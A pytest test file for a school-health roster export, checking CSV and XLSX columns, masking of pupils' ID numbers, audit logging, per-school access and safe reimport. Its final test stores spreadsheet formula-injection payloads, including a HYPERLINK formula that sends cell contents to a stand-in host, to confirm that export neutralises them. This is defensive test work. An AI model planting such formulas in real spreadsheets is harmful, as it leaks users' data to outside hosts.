"""Roster export: the roster.md columns, ID numbers masked unless an admin asks, audited."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from schoolhealth.extensions import db
from schoolhealth.models import AuditEvent, Student, mask_ids
from schoolhealth.roster.exporting import export_format, export_roster
from schoolhealth.roster.importing import EXPORT_HEADERS, apply_roster, parse_roster, read_roster
from schoolhealth.tabular import read_table
from tests.roster.fixtures.rosters import HEADER_ZH, csv_bytes, id_number, pupil

BIRTH = date(2017, 5, 14)


@pytest.fixture
def school(factories):
    return factories.SchoolFactory(code="S-A")


@pytest.fixture
def roster(school, factories):
    """Three pupils through the real import, one of whom has since left."""
    rows = [
        pupil(1, name="张小明", phone="13800138000"),
        pupil(2, name="李红", sex="F", grade="初一", klass="10班", with_id=False),
        pupil(3, name="王五"),
    ]
    header = [*HEADER_ZH, "家长语言"]
    rows = [[*rows[0], "en"], [*rows[1], ""], [*rows[2], ""]]
    table = read_roster(csv_bytes(header, rows), "roster.csv")
    parse = parse_roster(table, school=school, school_year=2026)
    apply_roster(parse, school=school, school_year=2026, user=None)
    db.session.commit()
    from schoolhealth.models import Student

    left = db.session.scalars(select(Student).where(Student.student_number == "L0000000003")).one()
    left.active = False
    db.session.commit()
    return school


def reimport(data: bytes, file_name: str, school):
    parse = parse_roster(read_roster(data, file_name), school=school, school_year=2026)
    return parse, apply_roster(parse, school=school, school_year=2026, user=None)


def test_csv_export_has_the_canonical_columns_and_values(roster, tmp_path):
    out = tmp_path / "roster.csv"
    assert export_roster(roster, out, fmt="csv") == 2
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == list(EXPORT_HEADERS)
    assert rows[1:] == [
        [
            "L0000000001",
            "张小明",
            "M",
            "2017-05-14",
            "3",
            "2",
            mask_ids(id_number(BIRTH, "M", sequence=1)),  # masked unless full_ids
            "S-A",
            "13800138000",
            "en",
        ],
        ["L0000000002", "李红", "F", "2017-05-14", "7", "10", "", "S-A", "", "zh"],
    ]


def test_inactive_pupils_only_on_request(roster, tmp_path):
    out = tmp_path / "all.csv"
    assert export_roster(roster, out, fmt="csv", include_inactive=True) == 3
    assert "L0000000003" in out.read_text(encoding="utf-8-sig")


def test_export_is_audited(roster, tmp_path, factories):
    nurse = factories.NurseFactory(school=roster)
    export_roster(roster, tmp_path / "r.csv", fmt="csv", user=nurse, file_name="r.csv")
    db.session.commit()
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).one()
    assert (event.entity, event.school_id, event.user_id) == ("roster", roster.id, nurse.id)
    assert event.after == {
        "file": "r.csv",
        "format": "csv",
        "pupils": 2,
        "include_inactive": False,
        "full_ids": False,
    }


def test_a_user_exports_only_schools_in_scope(roster, tmp_path, factories):
    outsider = factories.NurseFactory()
    assert export_roster(roster, tmp_path / "r.csv", fmt="csv", user=outsider) == 0


def test_xlsx_export_has_text_ids_and_date_cells(roster, tmp_path):
    out = tmp_path / "roster.xlsx"
    assert export_roster(roster, out, fmt="xlsx") == 2
    table = read_table(out)
    assert table.sheet_name == "Roster"
    assert table.headers == list(EXPORT_HEADERS)
    first = table.rows[0].values
    assert first[0] == "L0000000001"
    assert first[3] == "2017-05-14"  # a real date cell, read back as ISO
    assert first[4] == "3"
    assert first[6] == mask_ids(id_number(BIRTH, "M", sequence=1))  # masked by default
    full = tmp_path / "full.xlsx"
    export_roster(roster, full, fmt="xlsx", full_ids=True)
    assert read_table(full).rows[0].values[6] == id_number(BIRTH, "M", sequence=1)  # text: 18


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_reimport_changes_nothing(roster, tmp_path, fmt):
    out = tmp_path / f"roster.{fmt}"
    export_roster(roster, out, fmt=fmt, include_inactive=True)
    parse, summary = reimport(out.read_bytes(), out.name, roster)
    assert [i for i in parse.issues if i.is_error] == []
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)


def test_export_to_a_stream(roster):
    buffer = io.BytesIO()
    assert export_roster(roster, buffer, fmt="csv") == 2
    assert buffer.getvalue().decode("utf-8-sig").splitlines()[0].startswith("student_number,")


@pytest.mark.parametrize(("name", "fmt"), [("a.csv", "csv"), ("B.XLSX", "xlsx")])
def test_export_format_from_the_file_name(name, fmt):
    assert export_format(Path(name)) == fmt


def test_other_extensions_are_refused():
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        export_format("roster.xls")


# --- the download in the browser --------------------------------------------------------------


def test_nurse_downloads_her_school_as_csv(client, login_as, roster, factories):
    nurse = factories.NurseFactory(school=roster)
    login_as(nurse)
    response = client.get(f"/roster/export?school_id={roster.id}&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "roster-S-A-" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8-sig")
    assert id_number(BIRTH, "M", sequence=1) not in text  # masked: full only for an admin
    assert mask_ids(id_number(BIRTH, "M", sequence=1)) in text
    assert "L0000000003" not in text
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).one()
    assert event.user_id == nurse.id


def test_download_xlsx_with_inactive_pupils(client, login_as, roster, factories):
    login_as(factories.AdminFactory())
    response = client.get(f"/roster/export?school_id={roster.id}&format=xlsx&include_inactive=1")
    assert response.status_code == 200
    table = read_table(response.get_data(), "r.xlsx")
    assert len(table.rows) == 3


def test_nurse_without_school_id_gets_her_own_school(client, login_as, roster, factories):
    login_as(factories.NurseFactory(school=roster))
    response = client.get("/roster/export")
    assert response.status_code == 200
    assert "张小明" in response.get_data().decode("utf-8-sig")


def test_nurse_of_another_school_gets_404_and_nothing_is_audited(
    client, login_as, roster, factories
):
    login_as(factories.NurseFactory())
    assert client.get(f"/roster/export?school_id={roster.id}").status_code == 404
    assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all() == []


def test_unknown_format_is_a_bad_request(client, login_as, roster, factories):
    login_as(factories.NurseFactory(school=roster))
    assert client.get(f"/roster/export?school_id={roster.id}&format=pdf").status_code == 400


# --- resident ID numbers stay private (issue 7 §2) -------------------------------------------


def _g_pupils(school, factories, count=3):
    """Pupils whose student number is "G" + their ID number, as most national numbers are."""
    pupils = []
    school_class = factories.SchoolClassFactory(school=school, school_year=2026, grade=3, name="1")
    for seq in range(1, count + 1):
        number = id_number(BIRTH, "M", sequence=seq)
        pupils.append(
            factories.StudentFactory(
                school_class=school_class,
                school=school,
                student_number="G" + number,
                id_number=number,
                birth_date=BIRTH,
            )
        )
    db.session.commit()
    return pupils


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_masked_export_reimported_keeps_stored_ids_and_finds_g_numbers(
    school, factories, tmp_path, fmt
):
    pupils = _g_pupils(school, factories)
    stored = {p.id: (p.student_number, p.id_number) for p in pupils}
    out = tmp_path / f"roster.{fmt}"
    export_roster(school, out, fmt=fmt)
    for p in pupils:
        assert p.id_number not in out.read_bytes().decode("latin-1")
    parse, summary = reimport(out.read_bytes(), out.name, school)
    assert [i for i in parse.issues if i.is_error] == []
    assert summary.created == 0
    db.session.expire_all()
    for student in db.session.scalars(select(Student)):
        assert (student.student_number, student.id_number) == stored[student.id]


def test_a_masked_student_number_that_names_no_single_pupil_is_refused(school, factories):
    pupils = _g_pupils(school, factories, count=1)
    masked = mask_ids(pupils[0].student_number)
    header = ["student_number", "name", "sex", "birth_date", "grade", "class"]
    other_birth = "2017-05-15"  # the masked digits hide the birth date: it must agree
    data = csv_bytes(header, [[masked, "张三", "M", other_birth, "3", "1"]])
    parse = parse_roster(read_roster(data, "r.csv"), school=school, school_year=2026)
    [issue] = [i for i in parse.issues if i.is_error]
    assert (issue.line, issue.key, issue.value) == (2, "masked_student_number", masked)


def test_a_masked_id_for_a_new_pupil_is_a_warning_and_stores_no_id(school):
    number = id_number(BIRTH, "M", sequence=7)
    header = ["student_number", "name", "sex", "birth_date", "grade", "class", "id_number"]
    data = csv_bytes(
        header, [["L12345678", "张三", "M", BIRTH.isoformat(), "3", "1", mask_ids(number)]]
    )
    parse, summary = reimport(data, "r.csv", school)
    assert [i.key for i in parse.issues] == ["masked_id_new_pupil"]
    assert summary.created == 1
    student = db.session.scalars(select(Student).where(Student.student_number == "L12345678")).one()
    assert student.id_number is None


def test_cli_export_masks_by_default_and_full_ids_is_explicit_and_audited(
    runner, school, factories, tmp_path
):
    [pupil_] = _g_pupils(school, factories, count=1)
    masked_out, full_out = tmp_path / "m.csv", tmp_path / "f.csv"
    assert runner.invoke(args=["export-roster", "--school", "S-A", str(masked_out)]).exit_code == 0
    text = masked_out.read_text(encoding="utf-8-sig")
    assert pupil_.id_number not in text
    assert f"{mask_ids(pupil_.student_number)}," in text
    result = runner.invoke(args=["export-roster", "--school", "S-A", "--full-ids", str(full_out)])
    assert result.exit_code == 0, result.output
    assert f"{pupil_.student_number}," in full_out.read_text("utf-8-sig")
    assert pupil_.id_number in full_out.read_text(encoding="utf-8-sig")
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
    ).all()
    assert [e.after["full_ids"] for e in events] == [False, True]
    assert "FULL ID numbers" in events[1].summary
    assert pupil_.id_number not in events[1].summary


def test_only_an_admin_may_download_full_ids(client, login_as, school, factories):
    [pupil_] = _g_pupils(school, factories, count=1)
    login_as(factories.NurseFactory(school=school))
    assert client.get(f"/roster/export?school_id={school.id}&full_ids=1").status_code == 403
    login_as(factories.AdminFactory())
    default = client.get(f"/roster/export?school_id={school.id}").get_data().decode("utf-8-sig")
    assert pupil_.id_number not in default
    full = client.get(f"/roster/export?school_id={school.id}&full_ids=1")
    assert full.status_code == 200
    assert pupil_.id_number in full.get_data().decode("utf-8-sig")
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id.desc())
    ).first()
    assert event.after["full_ids"] is True


# --- spreadsheet formula injection (issue 7 §6) ----------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formulas_stored_before_input_was_checked(
    school, factories, tmp_path, fmt
):
    names = ['=HYPERLINK("http://x/?"&A1,"a")', "+1+2", "@SUM(A1:A9)", "-2+3"]
    school_class = factories.SchoolClassFactory(school=school, school_year=2026, grade=3, name="1")
    for i, name in enumerate(names):
        factories.StudentFactory(
            school_class=school_class, school=school, student_number=f"L0000000{i:03d}", name=name
        )
    db.session.commit()
    out = tmp_path / f"roster.{fmt}"
    export_roster(school, out, fmt=fmt)
    written = sorted(row.values[1] for row in read_table(out).rows)
    assert written == sorted("'" + n for n in names)
